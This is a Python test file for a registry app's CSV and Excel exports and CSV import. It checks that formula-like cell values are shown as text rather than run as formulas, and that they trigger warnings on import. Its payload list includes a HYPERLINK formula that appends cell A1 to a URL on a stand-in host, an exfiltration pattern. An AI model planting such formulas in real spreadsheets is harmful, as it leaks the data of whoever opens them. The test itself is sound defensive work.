"""Formula injection (OWASP, CSV Injection): a CSV import warns about every cell that begins
like a formula and imports it as written; the exports write such text so that a clerk's
spreadsheet shows it and never runs it."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook

from jingkang.registry.domain.figures import COLUMNS
from jingkang.registry.entrypoints.report_formats import to_csv, to_xlsx

from . import scenario as sc
from .conftest import System

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "+1+2", "-阳光康复站", "@SUM(1)",
           "\t=1+1"]


def _summary(names: list[str]) -> dict[str, Any]:
    values = {str(n): (-3 if n == 1 else n) for n, *_ in COLUMNS}
    values["15"] = {"count": 1, "names": ["=1+1"]}
    return {"region": "130000", "region_name": "河北省", "period": "2026Q3",
            "rows": [{"name": name, "region": "", "values": values} for name in names],
            "total": {"values": values}}


def test_exports_write_formula_like_text_as_text() -> None:
    summary = _summary([*HOSTILE, "石家庄市"])
    rows = list(csv.reader(io.StringIO(to_csv(summary).lstrip("\ufeff"))))[4:]
    rows = rows[:[r[:1] for r in rows].index(["合计"]) + 1]  # the table; the sign-off follows
    assert [r[0] for r in rows] == [*(f"'{h}" for h in HOSTILE), "石家庄市", "合计"]
    assert rows[0][1] == "-3" and rows[0][15] == "1（=1+1）"  # numbers stay numbers

    sheet = load_workbook(io.BytesIO(to_xlsx(summary))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=5, max_row=5 + len(HOSTILE))]
    for cell, name in zip(cells, [*HOSTILE, "石家庄市"], strict=False):
        assert (cell.value, cell.data_type) == (name, "s")  # as written, and never a formula
        assert cell.quotePrefix == starts_hostile(name)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert sheet.cell(row=5, column=2).value == -3


def starts_hostile(text: str) -> bool:
    return text[:1] in "=+-@\t\r\n"


async def test_an_import_warns_about_formula_like_cells_and_imports_them(system: System) -> None:
    s = system
    header = "institution_id,name,credit_code,region,address,level,kind,area,capacity,contact_name,contact_phone\n"
    rows = [
        f'fx-1,"=HYPERLINK(""http://example.invalid"",""点击"")",{sc.credit_code(70)},130102,'
        f"地址1,village,station,urban,5,,",
        f"fx-2,-阳光康复站,{sc.credit_code(71)},130102,@地址,village,station,urban,5,+张老师,"
        f"+8613800138000",
        f"fx-3,普通康复站,{sc.credit_code(72)},130102,地址3,village,station,urban,5,,",
    ]
    imported = await s.registry.http.post(
        "/v1/institutions/imports", content=(header + "\n".join(rows) + "\n").encode(),
        headers={**sc.CIVIL_AFFAIRS, "Content-Type": "text/csv"})
    assert imported.status_code == 201, imported.text
    body = imported.json()
    assert (body["imported"], body["institution_ids"]) == (3, ["fx-1", "fx-2", "fx-3"])
    assert [(w["line"], w["field"]) for w in body["warnings"]] == [
        (2, "name"), (3, "name"), (3, "address"), (3, "contact_name"), (3, "contact_phone")]
    assert all("formula" in w["message"] for w in body["warnings"])
    stored = await s.registry.get("/v1/institutions/fx-1", sc.CIVIL_AFFAIRS)
    assert stored["name"] == '=HYPERLINK("http://example.invalid","点击")'  # as written
